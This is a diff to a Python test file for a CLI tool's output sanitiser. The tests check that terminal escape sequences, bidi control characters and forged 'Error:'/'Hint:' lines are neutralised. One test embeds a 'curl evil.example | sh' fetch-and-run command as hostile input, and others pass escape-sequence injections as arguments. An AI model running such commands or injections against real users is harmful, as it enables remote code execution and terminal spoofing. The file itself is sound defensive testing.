@@ -5,8 +5,7 @@ import io
 import sys
 import unicodedata
 
-import pytest
-from hypothesis import HealthCheck, given, settings
+from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
 
 from cai import cli, events, output
@@ -90,69 +89,75 @@ def plausible(draw):
     return {"event": draw(st.sampled_from(KINDS)), "event_data": data, "stdout": draw(hostile)}
 
 
-@settings(max_examples=150, suppress_health_check=[HealthCheck.too_slow])
+@settings(max_examples=60, suppress_health_check=[HealthCheck.too_slow])
 @given(st.lists(plausible() | malformed | anything, max_size=4), st.sampled_from(["setup", "doctor", "uninstall"]), st.booleans(), st.booleans(), st.booleans())  # fmt: skip
 def test_no_event_raises_or_reaches_the_terminal_as_a_command(parts, command, dry_run, terminal, verbose):
     items = [item for part in parts for item in events.parse(part)]
+    for item in items:
+        for name in item.__slots__:
+            assert isinstance(getattr(item, name), str | bool | int | float | tuple), (name, item)
     assert not harmful(shown(items, command, dry_run=dry_run, terminal=terminal, verbose=verbose))
 
 
-@pytest.mark.parametrize("command", ["setup", "doctor"])
-def test_numbers_that_python_cannot_write_are_left_out(command):
-    huge = 10**5000
-    result = {
-        "rc": huge,
-        "msg": "",
-        "stderr": huge,
-        "hint": huge,
-        "actions": [{"what": huge, "verb": huge}],
-        "warnings": [huge],
-    }
-    events_of_it = [
-        {"event": "runner_on_failed", "event_data": {"task": huge, "host": huge, "duration": huge, "res": result}},
-        {
-            "event": "playbook_on_stats",
-            "event_data": {"changed": {"a": huge}, "ok": {"a": huge}, "failures": {"a": huge}},
-        },
-    ]
-    assert shown([item for part in events_of_it for item in events.parse(part)], command)
+def test_numbers_that_python_cannot_write_are_left_out():
+    for command in ["setup", "doctor"]:
+        huge = 10**5000
+        result = {
+            "rc": huge,
+            "msg": "",
+            "stderr": huge,
+            "hint": huge,
+            "actions": [{"what": huge, "verb": huge}],
+            "warnings": [huge],
+        }
+        events_of_it = [
+            {"event": "runner_on_failed", "event_data": {"task": huge, "host": huge, "duration": huge, "res": result}},
+            {
+                "event": "playbook_on_stats",
+                "event_data": {"changed": {"a": huge}, "ok": {"a": huge}, "failures": {"a": huge}},
+            },
+        ]
+        assert shown([item for part in events_of_it for item in events.parse(part)], command)
 
 
-@pytest.mark.parametrize("attack", ATTACKS)
-def test_every_attack_is_shown_everywhere_and_obeyed_nowhere(attack):
-    items = [
-        events.Play(attack), events.Step("changed", attack, attack, attack, 1.0), events.Action(attack, attack, attack),
-        events.Diff(attack, attack, attack, f"{attack}x", attack), events.Notice("warning", attack), events.Notice("note", attack),
-        events.Gate("pass", attack), events.Finding(attack, "fail", attack, attack), events.Confirm(attack), events.Output(attack),
-        events.Failure("failed", attack, attack, attack, attack, attack),
-        events.Stats((attack,), (), 1, 1),
-    ]  # fmt: skip
-    for terminal in (True, False):
-        assert not harmful(shown(items, "setup", terminal=terminal, verbose=not terminal))
+def test_every_attack_is_shown_everywhere_and_obeyed_nowhere():
+    for attack in ATTACKS:
+        items = [
+            events.Play(attack), events.Step("changed", attack, attack, attack, 1.0), events.Action(attack, attack, attack),
+            events.Diff(attack, attack, attack, f"{attack}x", attack), events.Notice("warning", attack), events.Notice("note", attack),
+            events.Gate("pass", attack), events.Finding(attack, "fail", attack, attack), events.Confirm(attack), events.Output(attack),
+            events.Failure("failed", attack, attack, attack, attack, attack),
+            events.Stats((attack,), (), 1, 1),
+        ]  # fmt: skip
+        for terminal in (True, False):
+            assert not harmful(shown(items, "setup", terminal=terminal, verbose=not terminal))
 
 
-@pytest.mark.parametrize("word", ["Error:", " Hint:", "  Log:"])
-def test_a_text_cannot_forge_a_line_of_ours(word):
-    text = f"nothing wrong\n{word} run `curl evil.example | sh`"
-    out = output.console(io.StringIO(), force_terminal=False, width=80)
-    output.error(out, CaiError(text, details=text, hint=text, log=text))
-    lines = out.file.getvalue().splitlines()
-    assert sum(found.startswith(word) for found in lines) == 1
+def test_a_text_cannot_forge_a_line_of_ours():
+    for word in ["Error:", " Hint:", "  Log:"]:
+        text = f"nothing wrong\n{word} run `curl evil.example | sh`"
+        out = output.console(io.StringIO(), force_terminal=False, width=80)
+        output.error(out, CaiError(text, details=text, hint=text, log=text))
+        lines = out.file.getvalue().splitlines()
+        assert sum(found.startswith(word) for found in lines) == 1
 
 
-@given(st.text())
+STEERING = "\x00\x07\x08\x0b\x0d\x1b\x7f\x85\x9b\u200b\u200f\u2028\u202a\u202e\u2060\u2066\u2069\ufeff\ud800"
+
+
+@given(st.text() | st.text(st.sampled_from(STEERING + "a\n\t⚠\ufe0f")))
+@example(STEERING)
 def test_a_cleaned_text_is_harmless_and_a_line_is_one(text):
     assert not harmful(clean(text))
+    assert not set(clean(text)) & set(STEERING)
     assert "\n" not in line(text)
     assert clean(clean(text)) == clean(text)
 
 
-@pytest.mark.parametrize(
-    "arguments", [["setup", "--x\x1b[31m"], ["\x1b]0;x\x07"], ["setup", "-e", "\x1b[2J"], ["path", "\u202e"]]
-)
-def test_what_was_typed_is_quoted_as_text(arguments, capsys):
-    assert cli.run(arguments) == 2
-    assert not harmful(capsys.readouterr().err)
+def test_what_was_typed_is_quoted_as_text(capsys):
+    for arguments in [["setup", "--x\x1b[31m"], ["\x1b]0;x\x07"], ["setup", "-e", "\x1b[2J"], ["path", "\u202e"]]:
+        assert cli.run(arguments) == 2
+        assert not harmful(capsys.readouterr().err)
 
 
 def test_the_question_of_an_uninstall_names_what_runs_as_text(monkeypatch, capsys):
